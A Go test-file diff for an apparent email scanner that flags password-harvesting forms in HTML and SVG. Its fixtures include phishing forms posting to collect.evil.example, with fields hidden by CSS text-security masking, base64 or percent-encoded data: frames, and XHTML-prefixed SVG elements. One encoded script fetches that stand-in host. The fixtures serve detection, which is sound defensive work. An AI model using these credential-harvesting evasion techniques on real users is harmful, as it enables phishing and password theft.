@@ -3,8 +3,12 @@ package links
 import (
 	"bytes"
 	"encoding/base64"
+	"fmt"
 	"slices"
+	"strings"
 	"testing"
+
+	"github.com/firstsight/firstsight/internal/lineartest"
 )
 
 // pwMail is a message whose only HTML is doc: the body itself (header ""),
@@ -68,6 +72,30 @@ func TestPasswordForms(t *testing.T) {
 		{"a field that names its form in an SVG", svg, `<svg><foreignObject><form id="f" action="https://collect.evil.example/p"/><input type="password" form="f"/></foreignObject></svg>`, []string{"collect.evil.example"}, false},
 		{"a field that names a form no document holds, with script", page, `<input type=password form=nowhere><script>go()</script>`, nil, true},
 		{"a hidden input named password", "", `<form action="https://a.example/"><input type="hidden" name="password"></form>`, nil, false},
+		{"a text field masked by its style", "", `<form action="https://collect.evil.example/p"><input name="u"><input type="text" name="p" style="color:#222; -webkit-text-security: disc"></form>`, []string{"collect.evil.example"}, false},
+		{"a field masked by a rule on its class", page, `<html><head><style>body{font:14px Arial} .field.pw , .other { -webkit-text-security:circle; }</style></head><body><form action="https://collect.evil.example/p"><input class="field PW" name="p"></form></body></html>`, []string{"collect.evil.example"}, false},
+		{"a field masked by a rule on its id", "", `<style>form #pass{-webkit-text-security:square}</style><form action="https://collect.evil.example/p"><input type=tel id=pass></form>`, []string{"collect.evil.example"}, false},
+		{"every input masked by a rule", page, `<style>input[type=text]{-webkit-text-security:disc}</style><form action="https://collect.evil.example/p"><input type=text name=p></form>`, []string{"collect.evil.example"}, false},
+		{"a masked field posted by script", page, `<style>.k{-webkit-text-security:disc}</style><input class="k"><script>go()</script>`, nil, true},
+		{"a masked field in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p"><input style="-webkit-text-security:disc"/></form></foreignObject></svg>`, []string{"collect.evil.example"}, false},
+		{"a form in a base64 data: frame", page, `<html><body><iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg==" width="400"></iframe></body></html>`, []string{"collect.evil.example"}, false},
+		{"a form in a percent-encoded data: frame", "", `<iframe src="data:text/html;charset=utf-8,%3Cform%20action%3D%22https%3A%2F%2Fcollect.evil.example%2Fp%22%20method%3D%22post%22%3E%3Cinput%20name%3D%22u%22%3E%3Cinput%20type%3D%22password%22%20name%3D%22p%22%3E%3Cbutton%3ESign%20in%3C%2Fbutton%3E%3C%2Fform%3E"></iframe>`, []string{"collect.evil.example"}, false},
+		{"a field in a data: frame posted by its script", page, `<iframe src="data:text/html;base64,PGlucHV0IHR5cGU9InBhc3N3b3JkIiBpZD0icCI+PHNjcmlwdD5mZXRjaCgiaHR0cHM6Ly9jb2xsZWN0LmV2aWwuZXhhbXBsZS9wIik8L3NjcmlwdD4="></iframe>`, nil, true},
+		{"a form in a data: frame in a srcdoc", page, `<iframe srcdoc="&lt;iframe src=&quot;data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg==&quot;&gt;&lt;/iframe&gt;"></iframe>`, []string{"collect.evil.example"}, false},
+		{"a form in a data: object", page, `<object data="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg=="></object>`, []string{"collect.evil.example"}, false},
+		{"XHTML-prefixed form and field in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><foreignObject width="300" height="200"><h:form action="https://collect.evil.example/p"><h:input type="text" name="u"/><h:input type="password" name="p"/></h:form></foreignObject></svg>`, []string{"collect.evil.example"}, false},
+		{"XHTML prefix declared on the form itself", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><x:form xmlns:x='http://www.w3.org/1999/xhtml' action="https://collect.evil.example/p"><x:input type="password"/></x:form></foreignObject></svg>`, []string{"collect.evil.example"}, false},
+		{"a whole XHTML document in foreignObject", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><html xmlns="http://www.w3.org/1999/xhtml"><body><div><form action="https://collect.evil.example/p"><input type="password"/></form></div></body></html></foreignObject></svg>`, []string{"collect.evil.example"}, false},
+		{"a prefixed field with script and no form in an SVG", svg, `<svg xmlns:h="http://www.w3.org/1999/xhtml"><foreignObject><h:input type="password"/></foreignObject><script>fetch("/x")</script></svg>`, nil, true},
+		{"a search form with other CSS", "", `<form action="https://shop.example/search"><input type="search" name="q" style="color:#333;-webkit-appearance:none;border:0"><input type="submit"></form>`, nil, false},
+		{"a newsletter's subscribe form with a style sheet", page, `<style>.email{border:1px solid #ccc;padding:4px} #sub{color:red}</style><form action="https://list.example/sub"><input class="email" id="sub" type="email" name="e"><button>Subscribe</button></form>`, nil, false},
+		{"text-security none", "", `<form action="https://shop.example/s"><input type="text" style="-webkit-text-security:none"></form>`, nil, false},
+		{"a masking rule on a class no field has", "", `<style>.pin{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input class="q" name="q"></form>`, nil, false},
+		{"a checkbox with the masked class", "", `<style>.pw{-webkit-text-security:disc}</style><form action="https://shop.example/s"><input type="checkbox" class="pw"></form>`, nil, false},
+		{"the rule quoted in the text", "", `<p>Use -webkit-text-security: disc in CSS.</p><form action="https://shop.example/s"><input name="q"></form>`, nil, false},
+		{"a newsletter form in a data: frame", page, `<iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2xpc3QuZXhhbXBsZS9zdWIiPjxpbnB1dCB0eXBlPSJlbWFpbCIgbmFtZT0iZSI+PGJ1dHRvbj5TdWJzY3JpYmU8L2J1dHRvbj48L2Zvcm0+"></iframe>`, nil, false},
+		{"a data: frame of plain text", page, `<iframe src="data:text/plain;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PGJ1dHRvbj5TaWduIGluPC9idXR0b24+PC9mb3JtPg=="></iframe>`, nil, false},
+		{"a prefix bound to another namespace", svg, `<svg xmlns:h="http://example.org/ns"><foreignObject><h:form action="https://collect.evil.example/p"><h:input type="password"/></h:form></foreignObject></svg>`, nil, false},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			msg := pwMail(tc.header, tc.doc)
@@ -96,14 +124,20 @@ func TestPasswordForms(t *testing.T) {
 
 // FuzzPasswordForms: the HTML and SVG readers mark only a form's targets,
 // and nothing at all in a document that cannot spell "password" (in any
-// case, or by a character reference).
+// case, or by a character reference), mask a field (text-security) or
+// hold a frame's document (data:).
 func FuzzPasswordForms(f *testing.F) {
 	f.Add([]byte(`<form action="https://a.example/"><input type=password></form>`))
 	f.Add([]byte(`<svg><foreignObject><form action="//b.example"><input type="PASSWORD"/><button formaction="https://c.example/">x</button></form></foreignObject></svg>`))
 	f.Add([]byte(`<form><form action="https://d.example/"><input type='&#112;assword'></form></form><input type=password>`))
 	f.Add([]byte(`<input type=password form=f><form id=f action="https://e.example/"></form><svg><input type="password" form="g"/></svg>`))
+	f.Add([]byte(`<style>.p,#q{-webkit-text-security:disc}input{-webkit-text-security:circle}</style><form action="https://f.example/"><input class=p><input id=q style="-webkit-text-security:square"></form>`))
+	f.Add([]byte(`<iframe src="data:text/html;base64,PGZvcm0gYWN0aW9uPSJodHRwczovL2cuZXhhbXBsZS8iPjxpbnB1dCB0eXBlPXBhc3N3b3JkPjwvZm9ybT4="></iframe><object data="data:text/html,%3Cform%3E">`))
+	f.Add([]byte(`<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:form action="https://h.example/"><h:input type="password"/></h:form></svg>`))
 	f.Fuzz(func(t *testing.T, doc []byte) {
-		possible := bytes.Contains(bytes.ToLower(doc), []byte("password")) || bytes.IndexByte(doc, '&') >= 0
+		low := bytes.ToLower(doc)
+		possible := bytes.Contains(low, []byte("password")) || bytes.IndexByte(doc, '&') >= 0 ||
+			bytes.Contains(low, []byte("text-security")) || bytes.Contains(low, []byte("data:"))
 		c := &collector{max: 20, hosts: hostCache{}}
 		scanHTML(doc, c, -1)
 		s := svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: doc}
@@ -122,4 +156,23 @@ func FuzzPasswordForms(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestPasswordFormsLinear: masking rules, data: frames and XHTML
+// prefixes, many of each, cost in proportion to the document.
+func TestPasswordFormsLinear(t *testing.T) {
+	for _, unit := range []string{
+		`<style>.a{-webkit-text-security:disc}</style><input class=a><input style="-webkit-text-security:disc">`,
+		strings.Repeat("x", 600) + `{-webkit-text-security:disc}`,
+		`<iframe src="data:text/html,%3Ciframe%20src=%22data:text/html,%253Cinput%253E%22%3E"></iframe>`,
+		`<h:input xmlns:h="http://www.w3.org/1999/xhtml" type=password>`,
+	} {
+		small := pwMail("", strings.Repeat(unit, 500))
+		big := pwMail("", strings.Repeat(unit, 2000))
+		svgSmall, svgBig := []byte("<svg>"+strings.Repeat(unit, 500)), []byte("<svg>"+strings.Repeat(unit, 2000))
+		lineartest.Check(t, fmt.Sprintf("Extract(%.20q x n)", unit), func() { Extract(small, Options{}) }, func() { Extract(big, Options{}) })
+		lineartest.Check(t, fmt.Sprintf("svgScanner(%.20q x n)", unit),
+			func() { (&svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: svgSmall}).run() },
+			func() { (&svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: svgBig}).run() })
+	}
 }
